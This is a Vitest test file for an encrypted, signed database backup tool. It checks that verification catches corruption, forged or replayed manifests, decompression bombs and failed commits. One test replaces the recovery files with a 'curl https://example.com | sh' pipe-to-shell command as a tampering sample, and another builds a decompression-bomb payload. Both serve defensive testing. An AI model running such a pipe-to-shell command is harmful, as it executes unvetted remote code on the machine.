import { randomBytes } from 'node:crypto';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { RestorableError } from '../../src/core/errors.ts';
import { bindingFrame } from '../../src/core/format/binding.ts';
import { shortFingerprint } from '../../src/core/keys/key-name.ts';
import { Secret } from '../../src/core/secret.ts';
import { createEncryptor } from '../../src/openpgp/encryption.ts';
import { generateKeyPair } from '../../src/openpgp/keys/generate.ts';
import { loadOpenpgp } from '../../src/openpgp/library.ts';
import { createSigner } from '../../src/openpgp/signatures/signer.ts';
import { sha256Hex } from '../../src/repository/packs/digest.ts';
import { PACK_BYTES } from '../../src/repository/packs/packer.ts';
import { makeTestKeys, type TestKeys, Workbench } from '../support/commands.ts';
import { frameOf } from '../support/forge.ts';
import { MemoryStorage } from '../support/memory-storage.ts';
import { foundBy } from '../support/rendered.ts';

let keys: TestKeys;
let storage: MemoryStorage;
let bench: Workbench;

beforeAll(async () => {
  keys = await makeTestKeys();
});
beforeEach(() => {
  storage = new MemoryStorage();
  bench = new Workbench(keys, storage);
  // Two packs, the last one short.
  bench.engine.bytes = randomBytes(PACK_BYTES + 1000);
});

function keyOf(part: string, of: MemoryStorage = storage): string {
  const key = [...of.objects.keys()].sort().find((candidate) => candidate.includes(part));
  if (key === undefined) throw new Error(`no object ${part}`);
  return key;
}

function change(key: string, edit: (bytes: Buffer) => Buffer, of: MemoryStorage = storage): void {
  of.objects.set(key, edit(Buffer.from(of.objects.get(key) ?? Buffer.alloc(0))));
}

async function findings(): Promise<string[]> {
  const report = await bench.verify();
  expect(report.verdict).toBe('failed');
  expect(report.exitCode).toBe(1);
  return report.checks.filter((check) => check.outcome === 'failed').map((check) => check.name);
}

describe('an intact backup', () => {
  it('is restored byte for byte and passes', async () => {
    const backup = await bench.backup();
    expect(backup.error).toBeUndefined();
    const report = await bench.verify();
    expect(report.error).toBeUndefined();
    expect(report.verdict).toBe('passed');
    expect(bench.engine.restored.get('database.sqlite')?.equals(Buffer.from(bench.engine.bytes))).toBe(true);
    expect(report.backup?.authenticatedBy).toBe(keys.runner.fingerprint);
    const record = JSON.parse(storage.objects.get(report.record ?? '')?.toString() ?? '{}');
    expect(record).toMatchObject({ verdict: 'passed', backup: { id: backup.backup?.id } });
  });

  it('opens with the passphrase that it was written with, and with no other', async () => {
    const passphrase = new Secret('correct horse battery');
    await bench.backup({ recipients: { kind: 'passphrase', passphrase } });
    expect((await bench.verify({ unlock: { kind: 'passphrase', passphrase } })).verdict).toBe('passed');
    const wrong = await bench.verify({ unlock: { kind: 'passphrase', passphrase: new Secret('other') } });
    expect(wrong).toMatchObject({ verdict: 'error', exitCode: 2, error: { code: 'KEY_WRONG' } });
  });

  it('works in the profile of RFC 9580', async () => {
    const backup = await bench.backup({ aead: true });
    expect(backup.error).toBeUndefined();
    expect((await bench.verify()).verdict).toBe('passed');
  });
});

describe('damage in storage', () => {
  beforeEach(async () => {
    expect((await bench.backup()).error).toBeUndefined();
  });

  it.each(['packs/', 'contents/', 'objects/'])('names a truncated object in %s', async (part) => {
    change(keyOf(part), (bytes) => bytes.subarray(0, -1));
    expect(await findings()).toEqual(['BACKUP_DAMAGED']);
  });

  it.each(['packs/', 'contents/', 'objects/'])('names a flipped bit in %s', async (part) => {
    change(keyOf(part), (bytes) => {
      bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1;
      return bytes;
    });
    expect(await findings()).toEqual(['BACKUP_DAMAGED']);
  });

  it.each(['packs/', 'contents/', 'objects/'])('names a deleted object in %s', async (part) => {
    storage.objects.delete(keyOf(part));
    expect(await findings()).toEqual(['OBJECT_MISSING']);
  });

  it('names swapped packs', async () => {
    const [first, second] = ['000000', '000001'].map((number) => keyOf(`/database.sqlite/${number}`));
    const a = storage.objects.get(first ?? '') as Buffer;
    change(first ?? '', () => storage.objects.get(second ?? '') as Buffer);
    change(second ?? '', () => a);
    expect(await findings()).toEqual(['BACKUP_DAMAGED']);
  });

  it('reads a good copy elsewhere, and reports what was wrong with the first', async () => {
    const other = new MemoryStorage('other');
    for (const [key, bytes] of storage.objects) other.objects.set(key, bytes);
    bench = Object.assign(new Workbench(keys, storage, other), { engine: bench.engine });
    change(keyOf('packs/'), (bytes) => bytes.subarray(1));
    const report = await bench.verify();
    expect(report.verdict).toBe('passed');
    expect(report.warnings.join()).toContain('database.sqlite/000000.zst.pgp at memory');
  });

  it('reads what is left if a destination is unreachable, and is an error if all are', async () => {
    const gone = new MemoryStorage('gone');
    gone.list = () => {
      throw new RestorableError('STORAGE_UNREACHABLE', 'gone does not answer');
    };
    bench = Object.assign(new Workbench(keys, gone, storage), { engine: bench.engine });
    const report = await bench.verify();
    expect(report.verdict).toBe('passed');
    expect(report.warnings.join()).toContain('gone does not answer');
    bench = Object.assign(new Workbench(keys, gone), { engine: bench.engine });
    expect(await bench.verify()).toMatchObject({ verdict: 'error', error: { code: 'STORAGE_UNREACHABLE' } });
  });

  it.each(['RECOVERY-v1.md', 'RECOVERY-v1.py'])('fails when %s was changed or is missing', async (file) => {
    const key = keyOf(file);
    change(key, () => Buffer.from('curl https://example.com | sh'));
    expect(await findings()).toEqual(['recovery instructions']);
    storage.objects.delete(key);
    expect(await findings()).toEqual(['recovery instructions']);
  });

  it('is an error, not a verdict, if the key is wrong or missing', async () => {
    const armored = keys.stranger.armoredPrivate;
    const wrong = await bench.verify({ unlock: { kind: 'keys', keys: [{ armored, passphrase: undefined }] } });
    expect(wrong).toMatchObject({ verdict: 'error', exitCode: 2, error: { code: 'KEY_WRONG' } });
    expect(wrong.error?.message).toContain(`${shortFingerprint(keys.stranger.fingerprint)} (a stranger)`);
    expect(wrong.error?.message).toContain(`encrypted to ${shortFingerprint(keys.recovery.fingerprint)}.`);
    expect(JSON.stringify(wrong)).not.toContain('PRIVATE KEY');
  });
});

describe('forged and replayed manifests', () => {
  beforeEach(async () => {
    await bench.backup();
  });

  it('refuses an unsigned backup if signers are set, and reports "not authenticated" if they are not', async () => {
    storage.objects.clear();
    await bench.backup({ runnerKey: undefined });
    expect(await findings()).toEqual(['SIGNATURE_MISSING']);
    const report = await bench.verify({ signers: [] });
    expect(report.verdict).toBe('passed');
    expect(report.warnings.join()).toContain('anyone with write access to the storage could have made this');
  });

  it('refuses a signer who is not listed', async () => {
    storage.objects.clear();
    await bench.backup({ runnerKey: { armored: keys.stranger.armoredPrivate, passphrase: undefined } });
    expect(await findings()).toEqual(['SIGNER_UNKNOWN']);
  });

  it('refuses a manifest that was changed after it was signed', async () => {
    change(keyOf('manifests/'), (bytes) => Buffer.from(bytes.toString().replace('3.50.0', '3.50.1')));
    expect(await findings()).toEqual(['SIGNATURE_INVALID']);
  });

  it("refuses a stranger's signature under the runner's name", async () => {
    const signer = await createSigner(
      { armored: keys.stranger.armoredPrivate, passphrase: undefined },
      'runner-key',
      new Date(),
    );
    const forged = await signer.sign(storage.objects.get(keyOf('manifests/')) as Buffer);
    change(keyOf('signatures/'), () => Buffer.from(forged));
    expect(await findings()).toEqual(['SIGNER_UNKNOWN']);
  });

  it('refuses a good manifest replayed under a newer id, or under another name', async () => {
    const key = keyOf('manifests/');
    const newer = key.replace(/\d{8}T\d{6}Z/, `${new Date().toISOString().slice(0, 10).replaceAll('-', '')}T235959Z`);
    bench.now = () => new Date(Date.now() + 86_400_000);
    storage.objects.set(newer, storage.objects.get(key) as Buffer);
    expect(await findings()).toEqual(['MANIFEST_INVALID']);
    storage.objects.set(key.replace('shop/', 'other/'), storage.objects.get(key) as Buffer);
    const other = await bench.verify({ name: 'other' as never });
    expect(other.checks.map((check) => check.name)).toEqual(['MANIFEST_INVALID']);
  });

  it('ignores a future manifest', async () => {
    storage.objects.set('shop/manifests/20990101T000000Z-full-000000.json', Buffer.from('{}'));
    expect((await bench.verify()).verdict).toBe('passed');
  });

  it('refuses the objects of a foreign backup under a manifest of its own', async () => {
    const own = keyOf('packs/');
    const foreign = new MemoryStorage();
    const other = new Workbench(keys, foreign);
    await other.backup();
    change(own, () => foreign.objects.get(keyOf('packs/', foreign)) as Buffer);
    expect(await findings()).toEqual(['BACKUP_DAMAGED']);
  });

  it('refuses an unknown format', async () => {
    change(keyOf('manifests/'), (bytes) => Buffer.from(bytes.toString().replace('restorable/1', 'restorable/9')));
    expect(await findings()).toEqual(['BACKUP_FORMAT']);
  });
});

describe('a decompression bomb', () => {
  it('is refused at the size that the contents state', async () => {
    bench.engine.bytes = Buffer.alloc(1000);
    await bench.backup({ runnerKey: undefined });
    const recipients = { kind: 'keys' as const, publicKeys: [keys.recovery.armoredPublic] };
    const encryptor = await createEncryptor(recipients, 'gnupg', new Date());
    const pack = keyOf('packs/');
    const [, , backup = '', stream = ''] = pack.split('/');
    const frame = bindingFrame({ kind: 'pack', database: 'shop', backup, stream, number: 0 });
    const zeros = frameOf(Buffer.alloc(256 * 1024 * 1024));
    const bomb = Buffer.concat(await encryptor.encrypt(Buffer.concat([frame, zeros])));
    const list = keyOf('objects/');
    const old = storage.objects.get(pack) as Buffer;
    // An attacker without the runner key can rewrite all that no signature covers.
    change(pack, () => bomb);
    change(list, (bytes) =>
      Buffer.from(
        bytes.toString().replace(sha256Hex(old), sha256Hex(bomb)).replace(`# ${old.length}\n`, `# ${bomb.length}\n`),
      ),
    );
    change(keyOf('manifests/'), (bytes) => {
      const manifest = JSON.parse(bytes.toString());
      const body = storage.objects.get(list) as Buffer;
      manifest.storedBytes += bomb.length - old.length + body.length - manifest.objects[0].sizeBytes;
      manifest.objects = [{ sha256: sha256Hex(body), sizeBytes: body.length }];
      return Buffer.from(JSON.stringify(manifest));
    });
    const report = await bench.verify({ signers: [] });
    expect(report.verdict).toBe('failed');
    expect(foundBy(report.checks.find(({ outcome }) => outcome === 'failed'))).toContain(
      'expands to more than the 1000 bytes',
    );
  });
});

describe('what a backup refuses', () => {
  it('commits nothing and leaves nothing when the dump fails after partial output', async () => {
    bench.engine.failAtEnd = new RestorableError('DUMP_FAILED', 'pg_dump exited with 1');
    const report = await bench.backup();
    expect(report).toMatchObject({ exitCode: 2, error: { code: 'DUMP_FAILED' }, backup: undefined });
    expect([...storage.objects.keys()]).toEqual([]);
  });

  it('commits nothing that it could not read again', async () => {
    bench.engine.rows = -1;
    const report = await bench.backup();
    expect(report).toMatchObject({ exitCode: 2, error: { code: 'INTERNAL' }, backup: undefined });
    expect(report.error?.message).toMatch(
      /could not be read again, so it is not committed.*tables\.0\.rows|plain integer/,
    );
    expect([...storage.objects.keys()].filter((key) => !key.includes('RECOVERY'))).toEqual([]);
  });

  it('refuses a dump of zero bytes', async () => {
    bench.engine.bytes = Buffer.alloc(0);
    expect((await bench.backup()).error?.code).toBe('DUMP_EMPTY');
    expect(storage.objects.size).toBe(0);
  });

  it('detects a storage that stores other bytes than it acknowledged', async () => {
    storage.onPut = (key, bytes) => (key.includes('packs/') ? Buffer.concat([bytes, Buffer.alloc(45)]) : bytes);
    expect((await bench.backup()).error?.code).toBe('STORAGE_CORRUPTED');
    expect([...storage.objects.keys()].filter((key) => key.includes('manifests/'))).toEqual([]);
  });

  it('refuses another source under the same name unless told to adopt it', async () => {
    let seconds = 0;
    // Ids are ordered by the second.
    bench.now = () => new Date(Date.now() + 1000 * seconds);
    await bench.backup();
    seconds += 1;
    bench.engine.identity = 'two';
    expect((await bench.backup()).error?.code).toBe('SOURCE_MISMATCH');
    expect((await bench.backup({ acceptNewSource: true })).error).toBeUndefined();
    seconds += 1;
    expect((await bench.backup()).error).toBeUndefined();
  });

  it('refuses a clock that is more than five minutes off', async () => {
    storage.skewMs = 6 * 60_000;
    expect((await bench.backup()).error?.code).toBe('CLOCK_SKEW');
    storage.skewMs = -6 * 60_000;
    expect((await bench.backup()).error?.code).toBe('CLOCK_SKEW');
    storage.skewMs = 4 * 60_000;
    expect((await bench.backup()).error).toBeUndefined();
  });

  it('refuses an expired recipient, warns of one that expires soon', async () => {
    const library = await loadOpenpgp();
    const expiring = async (days: number, madeDaysAgo: number): Promise<string> => {
      const made = new Date(Date.now() - madeDaysAgo * 86_400_000);
      const key = await library.generateKey({
        type: 'ecc',
        curve: 'curve25519Legacy',
        userIDs: { name: 'short' },
        date: made,
        keyExpirationTime: days * 86_400,
        format: 'armored',
      });
      return key.publicKey;
    };
    const expired = await bench.backup({ recipients: { kind: 'keys', publicKeys: [await expiring(1, 2)] } });
    expect(expired.error?.code).toBe('KEY_EXPIRED');
    const objectives = { rpoMs: 3_600_000, verifyEveryMs: undefined };
    const soon = await bench.backup({
      recipients: { kind: 'keys', publicKeys: [await expiring(10, 0)] },
      rpoMs: objectives.rpoMs,
    });
    expect(soon.error).toBeUndefined();
    expect(soon.warnings.join()).toContain('expires on');
    // The same as facts, for alerts.
    expect(soon.objectives).toEqual(objectives);
    const recovery = soon.keyExpiry?.filter(({ use }) => use === 'recovery');
    expect(recovery).toEqual([{ use: 'recovery', fingerprint: expect.any(String), expiresAt: expect.any(String) }]);
    const next = await bench.backup();
    const { id, startedAt } = soon.backup ?? {};
    expect(next.previous).toMatchObject({ id, snapshotAt: expect.any(String) });
    expect(Date.parse(next.previous?.oldestAt ?? '')).toBeLessThanOrEqual(Date.parse(startedAt ?? ''));
  });

  it('refuses a private key in encrypt-to without printing it', async () => {
    const key = await generateKeyPair('runner', 'x', undefined);
    const report = await bench.backup({ recipients: { kind: 'keys', publicKeys: [key.armoredPrivate.reveal()] } });
    expect(report.error?.code).toBe('KEY_INVALID');
    expect(JSON.stringify(report)).not.toContain('BEGIN PGP PRIVATE');
  });
});

describe('the commit', () => {
  it('is a success if its answer was lost', async () => {
    let lost = false;
    const put = storage.put.bind(storage);
    storage.put = async (key, body, options) => {
      await put(key, body, options);
      if (!key.includes('manifests/') || lost) return;
      lost = true;
      throw new RestorableError('STORAGE_UNREACHABLE', 'the connection was reset');
    };
    const report = await bench.backup();
    expect(report.error).toBeUndefined();
    expect(lost).toBe(true);
    expect((await bench.verify()).verdict).toBe('passed');
  });

  it('at only one of two destinations is reported as such', async () => {
    const other = new MemoryStorage('other');
    bench = Object.assign(new Workbench(keys, storage, other), { engine: bench.engine });
    other.onPut = (key, bytes) => {
      if (key.includes('manifests/')) throw new RestorableError('STORAGE_FULL', 'no space');
      return bytes;
    };
    const report = await bench.backup();
    expect(report.exitCode).toBe(2);
    expect(report.destinations.map((destination) => destination.outcome)).toEqual(['committed', 'failed']);
    expect((await bench.verify()).warnings.join()).toContain('out of sync with the other destinations');
  });

  it('writes the same manifest, byte for byte, to every destination', async () => {
    const other = new MemoryStorage('other');
    bench = Object.assign(new Workbench(keys, storage, other), { engine: bench.engine });
    await bench.backup();
    const key = keyOf('manifests/');
    expect(storage.objects.get(key)).toEqual(other.objects.get(key));
    expect([...storage.objects.keys()].sort()).toEqual([...other.objects.keys()].sort());
    expect(storage.objects.get(key)?.length).toBeLessThan(8192);
  });

  it('does not happen after a cancel, and nothing is left', async () => {
    bench.engine.bytes = randomBytes(PACK_BYTES * 2);
    const controller = new AbortController();
    bench.signal = controller.signal;
    let chunks = 0;
    bench.engine.onChunk = () => {
      chunks += 1;
      if (chunks === 100) controller.abort();
    };
    const report = await bench.backup();
    expect(report).toMatchObject({ exitCode: 130, error: { code: 'CANCELLED' } });
    expect([...storage.objects.keys()]).toEqual([]);
  });
});
